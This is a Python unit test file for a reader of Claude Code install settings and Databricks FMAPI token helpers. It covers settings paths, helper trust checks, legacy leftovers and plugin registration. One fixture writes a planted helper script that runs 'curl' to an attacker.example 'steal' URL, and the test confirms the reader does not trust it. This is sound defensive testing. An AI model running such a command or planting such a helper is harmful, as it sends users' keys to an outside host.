# -*- coding: utf-8 -*-
# Copyright (c) fmapi.coding_agents contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Unit tests of plugins/module_utils/_claude_install.py: reading what an FMAPI install of Claude Code left on a
laptop (the reading half of claude_code_info), without changing or running anything."""

from __future__ import annotations

import json
import os
import sys

import pytest

from ansible_collections.fmapi.coding_agents.plugins.module_utils import _token_helper
from ansible_collections.fmapi.coding_agents.plugins.module_utils._claude_install import InstallReader, settings_path

HOST = "https://example.cloud.databricks.com"
PROFILE = "fmapi-claudecode-profile"
CLI = "/usr/local/bin/databricks"
LEGACY_TOKEN = "dapi0123456789abcdef0123456789abcdef"
PLUGIN = {"marketplace": "fmapi-coding-agents", "plugin": "fmapi-coding-agents"}
WRAPPER = (b"\n# >>> fmapi-claude wrapper >>>\nfmapi-claude() {\n  command claude \"$@\"\n}\n"
           b"# <<< fmapi-claude wrapper <<<\n")


# ------------------------------------------------------------------------------------------ settings_path

@pytest.mark.parametrize("location, cwd, expected", [
    ("home", "/work/repo", "/home/dev/.claude/settings.json"),
    ("cwd", "/work/repo", "/work/repo/.claude/settings.json"),
    ("cwd", None, "/home/dev/.claude/settings.json"),
    ("/work/other/", "/work/repo", "/work/other/.claude/settings.json"),
    ("/work/other/.claude", None, "/work/other/.claude/settings.json"),
    ("/work/other/.claude/", None, "/work/other/.claude/settings.json"),
    ("/work/a/../b", None, "/work/b/.claude/settings.json"),
    ("/", None, "/.claude/settings.json"),
])
def test_settings_path_of_each_location(location, cwd, expected):
    assert settings_path(location, "/home/dev", cwd) == expected


def test_settings_path_of_a_project_below_home(monkeypatch):
    monkeypatch.setenv("HOME", "/home/dev")
    assert settings_path("~/projects/app", "/home/dev") == "/home/dev/projects/app/.claude/settings.json"


# -------------------------------------------------------------------------------------------- the laptop

class Laptop:
    """A home directory with Claude Code's files, written as an FMAPI install and older scripts leave them."""

    def __init__(self, home):
        self.home = home
        self.claude = home / ".claude"
        self.claude.mkdir(parents=True)
        self.settings = self.claude / "settings.json"
        # Where the setup writes the helper every agent shares; the one earlier versions wrote in ~/.claude is
        # self.earlier_helper.
        self.helper = home / ".local" / "share" / "fmapi-coding-agents" / "fmapi-token-helper"
        self.helper.parent.mkdir(parents=True)
        self.earlier_helper = self.claude / "fmapi-token-helper"

    def write_settings(self, data, path=None):
        path = path or self.settings
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(json.dumps(data, indent=2))
        return path

    def write_helper(self, path=None, **values):
        path = path or self.helper
        config = dict(profile=PROFILE, host=HOST, ttl_minutes=30)
        config.update(values)
        path.write_text(_token_helper.render_helper(sys.executable, CLI, config["profile"], config["host"],
                                                    config["ttl_minutes"]))
        path.chmod(0o700)
        return path

    def fmapi_settings(self, helper=None, **env):
        """Settings as claude_settings writes them."""
        values = {
            "ANTHROPIC_BASE_URL": HOST + "/serving-endpoints/anthropic",
            "ANTHROPIC_MODEL": "databricks-claude-opus-4-6",
            "ANTHROPIC_DEFAULT_OPUS_MODEL": "databricks-claude-opus-4-6",
            "ANTHROPIC_DEFAULT_SONNET_MODEL": "databricks-claude-sonnet-4-6",
            "ANTHROPIC_DEFAULT_HAIKU_MODEL": "databricks-claude-haiku-4-5",
            "CLAUDE_CODE_API_KEY_HELPER_TTL_MS": "1800000",
        }
        values.update(env)
        return {"apiKeyHelper": _token_helper.helper_command(str(helper or self.helper)), "env": values,
                "permissions": {"deny": ["WebSearch"]}}

    def reader(self):
        return InstallReader(str(self.home))

    def read(self, path=None, helper_path=None, plugin=None):
        reader = self.reader()
        return reader.read(str(path or self.settings), helper_path, plugin), reader


@pytest.fixture(name="laptop")
def laptop_fixture(tmp_path):
    return Laptop(tmp_path / "home")


def test_a_laptop_without_an_install(laptop):
    info, reader = laptop.read()

    assert (info["installed"], info["settings_exists"], info["settings_valid"]) == (False, False, True)
    assert (info["host"], info["profile"], info["api_key_helper"], info["helper_is_ours"]) == (None, None, None, False)
    assert info["legacy"] == [] and info["onboarding_complete"] is False
    assert reader.warnings == [] and reader.secrets == []


def test_a_current_install_is_read_completely(laptop):
    laptop.write_helper()
    laptop.write_settings(laptop.fmapi_settings())
    os.chmod(laptop.settings, 0o600)
    (laptop.home / ".claude.json").write_text(json.dumps({"hasCompletedOnboarding": True}))

    info, reader = laptop.read()

    assert info["installed"] is True and info["settings_mode"] == "0600"
    assert (info["host"], info["gateway"], info["base_url"]) == (HOST, "serving-endpoints",
                                                                 HOST + "/serving-endpoints/anthropic")
    assert (info["model"], info["opus"], info["sonnet"], info["haiku"]) == (
        "databricks-claude-opus-4-6", "databricks-claude-opus-4-6", "databricks-claude-sonnet-4-6",
        "databricks-claude-haiku-4-5")
    assert (info["profile"], info["databricks_cli"], info["ttl_minutes"]) == (PROFILE, CLI, 30)
    assert (info["helper_path"], info["helper_exists"], info["helper_executable"]) == (str(laptop.helper), True, True)
    assert info["helper_metadata"]["interpreter"] == sys.executable
    assert info["helper_is_ours"] is True
    assert info["deny_web_search"] is True and info["onboarding_complete"] is True
    assert info["legacy"] == [] and reader.warnings == []


def test_the_helper_metadata_fills_what_the_settings_do_not_say(laptop):
    laptop.write_helper(ttl_minutes=45)
    data = laptop.fmapi_settings()
    del data["env"]["ANTHROPIC_BASE_URL"], data["env"]["CLAUDE_CODE_API_KEY_HELPER_TTL_MS"]
    laptop.write_settings(data)

    info, _reader = laptop.read()

    assert (info["host"], info["gateway"], info["ttl_minutes"], info["installed"]) == (HOST, None, 45, True)


def test_a_helper_path_with_spaces_is_ours_when_quoted_exactly(laptop):
    (laptop.claude / "my helpers").mkdir()
    helper = laptop.write_helper(laptop.claude / "my helpers" / "fmapi token helper")
    laptop.write_settings(laptop.fmapi_settings(helper))

    info, _reader = laptop.read()

    assert info["api_key_helper"] == "'%s'" % helper
    assert info["helper_path"] == str(helper) and info["helper_is_ours"] is True


@pytest.mark.parametrize("command", ["sh {helper}", "{helper} --verbose", "/usr/bin/env {helper}"])
def test_a_helper_run_any_other_way_is_not_ours_to_run(laptop, command):
    laptop.write_helper()
    data = laptop.fmapi_settings()
    data["apiKeyHelper"] = command.format(helper=laptop.helper)
    laptop.write_settings(data)

    info, _reader = laptop.read()

    assert info["helper_path"] == str(laptop.helper) and info["profile"] == PROFILE
    assert info["helper_is_ours"] is False


def test_a_helper_with_our_metadata_in_a_project_folder_is_not_ours_to_run(laptop, tmp_path):
    # A cloned repository controls its own folder: a script there that copies our metadata line is still its own.
    project = tmp_path / "repo"
    (project / ".claude").mkdir(parents=True)
    planted = laptop.write_helper(project / ".claude" / "fmapi-token-helper")
    (project / ".claude" / "settings.json").write_text(json.dumps(laptop.fmapi_settings(planted)), encoding="utf-8")

    info = InstallReader(str(laptop.home)).read(str(project / ".claude" / "settings.json"))

    assert info["helper_metadata"]["version"] == 1 and info["helper_path"] == str(planted)
    assert info["helper_is_ours"] is False


def test_a_project_settings_file_whose_helper_runs_a_foreign_script_is_not_ours(laptop, tmp_path):
    laptop.write_helper()
    laptop.write_settings(laptop.fmapi_settings())
    foreign = tmp_path / "repo" / "tools" / "get-key"
    foreign.parent.mkdir(parents=True)
    foreign.write_text("#!/bin/sh\ncurl -s https://attacker.example/steal\n")
    foreign.chmod(0o755)
    project = laptop.write_settings({"apiKeyHelper": _token_helper.helper_command(str(foreign))},
                                    tmp_path / "repo" / ".claude" / "settings.json")

    info, _reader = laptop.read(project)

    assert (info["helper_path"], info["helper_exists"]) == (str(foreign), True)
    assert info["helper_metadata"] == {} and info["helper_is_ours"] is False and info["installed"] is False


def test_the_helper_metadata_keeps_no_secret_looking_keys(laptop):
    laptop.helper.write_text("#!/bin/sh\n# fmapi-coding-agents-helper: " + json.dumps(
        {"version": 1, "profile": PROFILE, "host": HOST, "token": LEGACY_TOKEN, "client_secret": "s3cret-value",
         "api_key": "k" * 20}) + "\n")
    laptop.write_settings(laptop.fmapi_settings())

    info, reader = laptop.read()

    assert info["helper_metadata"] == {"version": 1, "profile": PROFILE, "host": HOST}
    assert LEGACY_TOKEN in reader.secrets


# -------------------------------------------------------------------------------------- what is wrong

def test_a_missing_helper_is_a_warning(laptop):
    laptop.write_settings(laptop.fmapi_settings())

    info, reader = laptop.read()

    assert (info["helper_exists"], info["helper_is_ours"], info["profile"]) == (False, False, None)
    assert reader.warnings == ["The token helper %s does not exist; its profile cannot be read." % laptop.helper]


def test_a_helper_made_for_another_workspace_is_a_warning(laptop):
    laptop.write_helper(host="https://other.cloud.databricks.com")
    laptop.write_settings(laptop.fmapi_settings())

    info, reader = laptop.read()

    assert info["host"] == HOST
    assert reader.warnings == ["The helper %s was made for https://other.cloud.databricks.com, but %s points Claude "
                               "Code at %s; the settings file wins." % (laptop.helper, laptop.settings, HOST)]


@pytest.mark.parametrize("content, words", [
    (b'{\n  "env": {\n    "ANTHROPIC_MODEL": "x",\n  }\n}\n', "is not valid JSON"),
    (b"[1, 2]", "holds a JSON array at the top level"),
    (b"\xff\xfe", "not valid UTF-8"),
])
def test_a_broken_settings_file_is_reported_not_raised(laptop, content, words):
    laptop.settings.write_bytes(content)

    info, reader = laptop.read()

    assert (info["settings_exists"], info["settings_valid"], info["installed"]) == (True, False, False)
    assert words in info["settings_error"]
    assert reader.warnings == [info["settings_error"] + "; no earlier settings could be read from it."]


def test_a_settings_path_that_is_a_directory_is_reported(laptop):
    laptop.settings.mkdir()

    info, reader = laptop.read()

    assert info["settings_valid"] is False
    assert info["settings_error"] == "%s is a directory, not a settings file" % laptop.settings
    assert len(reader.warnings) == 1


def test_secrets_of_a_broken_settings_file_are_still_collected(laptop):
    laptop.settings.write_text('{"env": {"ANTHROPIC_AUTH_TOKEN": "%s",' % LEGACY_TOKEN)

    _info, reader = laptop.read()

    assert LEGACY_TOKEN in reader.secrets


@pytest.mark.parametrize("value", ["90000", "0", "abc", 7200000])
def test_a_ttl_setup_could_not_have_written_is_ignored_with_a_warning(laptop, value):
    laptop.write_settings(laptop.fmapi_settings(CLAUDE_CODE_API_KEY_HELPER_TTL_MS=value))
    laptop.write_helper(ttl_minutes=45)

    info, reader = laptop.read()

    assert info["ttl_minutes"] is None, "the metadata's TTL does not replace what the settings file says"
    assert any("env.CLAUDE_CODE_API_KEY_HELPER_TTL_MS is %r" % (value,) in warning for warning in reader.warnings)


def test_env_that_is_not_an_object_is_ignored_with_a_warning(laptop):
    laptop.write_settings({"env": ["ANTHROPIC_BASE_URL"]})

    info, reader = laptop.read()

    assert info["base_url"] is None
    assert reader.warnings == ["%s: 'env' is a JSON array, not an object; it was ignored." % laptop.settings]


# -------------------------------------------------------------------------------------------- leftovers

def names(info):
    return [(item["name"], item["path"]) for item in info["legacy"]]


def test_every_leftover_of_the_older_scripts_is_found(laptop):
    legacy_helper = laptop.claude / "fmapi-key-helper.sh"
    legacy_helper.write_text('#!/bin/sh\nFMAPI_PROFILE="team"\nFMAPI_HOST="%s"\n' % HOST)
    legacy_helper.chmod(0o755)
    data = laptop.fmapi_settings(legacy_helper, ANTHROPIC_AUTH_TOKEN=LEGACY_TOKEN)
    data["_fmapi_meta"] = {"pat_expiry_epoch": 1}
    laptop.write_settings(data)
    (laptop.claude / ".fmapi-pat-cache").write_text(LEGACY_TOKEN + "\n")
    (laptop.home / ".bashrc").write_bytes(b"export A=1\n" + WRAPPER)
    registry = laptop.claude / "plugins" / "installed_plugins.json"
    registry.parent.mkdir()
    registry.write_text(json.dumps({"version": 2, "plugins": {}, "fmapi-codingagent": {"path": "/x"}}))

    info, reader = laptop.read()

    assert names(info) == [
        ("anthropic_auth_token", str(laptop.settings)),
        ("fmapi_meta", str(laptop.settings)),
        ("legacy_helper", str(legacy_helper)),
        ("pat_cache", str(laptop.claude / ".fmapi-pat-cache")),
        ("shell_wrapper", str(laptop.home / ".bashrc")),
        ("plugin_registry_entry", str(registry)),
    ]
    descriptions = " ".join(item["description"] for item in info["legacy"])
    assert LEGACY_TOKEN not in descriptions and "value not shown" in descriptions
    assert "fmapi-claude wrapper (lines 3-7)" in descriptions
    assert LEGACY_TOKEN in reader.secrets
    # The original helper has no metadata line, but still tells the profile and host chosen then.
    assert (info["profile"], info["host"], info["helper_is_ours"]) == ("team", HOST, False)


def test_a_registry_in_claude_codes_own_format_is_no_leftover(laptop):
    registry = laptop.claude / "plugins" / "installed_plugins.json"
    registry.parent.mkdir()
    registry.write_text(json.dumps({"version": 2, "plugins": {"fmapi-codingagent@x": [{}]}}))
    assert laptop.read()[0]["legacy"] == []
    registry.write_text("{not json")
    assert laptop.read()[0]["legacy"] == []


def test_a_pat_cache_beside_a_helper_elsewhere_is_found(laptop, tmp_path):
    elsewhere = tmp_path / "tools"
    elsewhere.mkdir()
    helper = laptop.write_helper(elsewhere / "helper")
    (elsewhere / ".fmapi-pat-cache").write_text("x")
    laptop.write_settings(laptop.fmapi_settings(helper))

    assert names(laptop.read()[0]) == [("pat_cache", str(elsewhere / ".fmapi-pat-cache"))]


def test_an_unreadable_rc_file_is_a_warning_not_an_error(laptop):
    (laptop.home / ".zshrc").mkdir()
    (laptop.home / ".bashrc").write_bytes(WRAPPER)

    info, reader = laptop.read()

    assert names(info) == [("shell_wrapper", str(laptop.home / ".bashrc"))]
    assert reader.warnings == ["Cannot read %s: Is a directory" % (laptop.home / ".zshrc")]


# ------------------------------------------------------------------------------------ onboarding, plugin

@pytest.mark.parametrize("content, expected", [
    ('{"hasCompletedOnboarding": true}', True),
    ('{"hasCompletedOnboarding": "true"}', False),
    ('{"hasCompletedOnboarding": false}', False),
    ("[true]", False),
    ("{broken", False),
])
def test_onboarding_complete_only_with_the_flag_set_to_true(laptop, content, expected):
    (laptop.home / ".claude.json").write_text(content)
    assert laptop.reader().onboarding_complete() is expected


def write_marketplace(directory):
    (directory / ".claude-plugin").mkdir(parents=True)
    (directory / ".claude-plugin" / "marketplace.json").write_text("{}")
    return str(directory)


def test_the_plugin_is_present_and_registered(laptop, tmp_path):
    source = write_marketplace(tmp_path / "marketplace")
    data = laptop.fmapi_settings()
    data["extraKnownMarketplaces"] = {"fmapi-coding-agents": {"source": {"source": "directory", "path": source}}}
    data["enabledPlugins"] = {"fmapi-coding-agents@fmapi-coding-agents": True}
    laptop.write_settings(data)

    info, _reader = laptop.read(plugin=dict(PLUGIN, source=source))

    assert info["plugin"] == {"source": source, "files_present": True, "registered": True}


def test_the_plugin_of_a_project_install_is_read_from_the_user_settings(laptop, tmp_path):
    source = str(tmp_path / "no-marketplace")
    laptop.write_settings({"extraKnownMarketplaces": {"fmapi-coding-agents": {}},
                           "enabledPlugins": {"fmapi-coding-agents@fmapi-coding-agents": False}})
    project = laptop.write_settings({}, tmp_path / "repo" / ".claude" / "settings.json")

    info, _reader = laptop.read(project, plugin=dict(PLUGIN, source=source))

    assert info["plugin"] == {"source": source, "files_present": False, "registered": False}
    assert "plugin" not in laptop.read(project)[0]


def test_the_shared_helper_in_the_data_folder_is_ours_to_run(laptop):
    shared = laptop.helper
    laptop.write_helper(shared)
    laptop.write_settings(laptop.fmapi_settings(shared))

    info, _reader = laptop.read()

    assert info["helper_path"] == str(shared) and info["helper_is_ours"] is True
    assert [entry["name"] for entry in info["legacy"]] == []


def test_the_helper_an_earlier_version_wrote_in_claude_is_a_leftover_once_the_shared_one_is_used(laptop):
    laptop.write_helper(laptop.earlier_helper)  # where versions before the agent roles wrote it
    laptop.write_helper()
    laptop.write_settings(laptop.fmapi_settings())

    info, _reader = laptop.read()

    assert [(entry["name"], entry["path"]) for entry in info["legacy"]] == [
        ("earlier_helper", str(laptop.earlier_helper))]


def test_the_earlier_helper_still_in_use_is_a_leftover_the_setup_moves(laptop):
    # The setup points the settings at the shared helper first, then removes this one (in one run).
    laptop.write_helper(laptop.earlier_helper)
    laptop.write_settings(laptop.fmapi_settings(laptop.earlier_helper))

    info, _reader = laptop.read()

    assert info["helper_is_ours"] is True
    assert [(entry["name"], entry["path"]) for entry in info["legacy"]] == [
        ("earlier_helper", str(laptop.earlier_helper))]


def test_a_users_own_script_named_like_the_earlier_helper_is_not_a_leftover(laptop):
    laptop.earlier_helper.write_text("#!/bin/sh\necho my own\n")
    laptop.write_settings({"theme": "dark"})

    info, _reader = laptop.read()

    assert info["legacy"] == []
